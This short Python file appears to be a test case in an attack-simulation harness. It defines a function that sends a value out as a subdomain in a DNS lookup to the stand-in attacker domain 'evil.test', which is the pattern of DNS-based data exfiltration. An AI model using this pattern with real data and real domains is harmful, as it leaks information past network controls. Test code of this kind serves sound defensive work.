# SPDX-License-Identifier: Apache-2.0
"""Another server."""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test')


attempt(way)
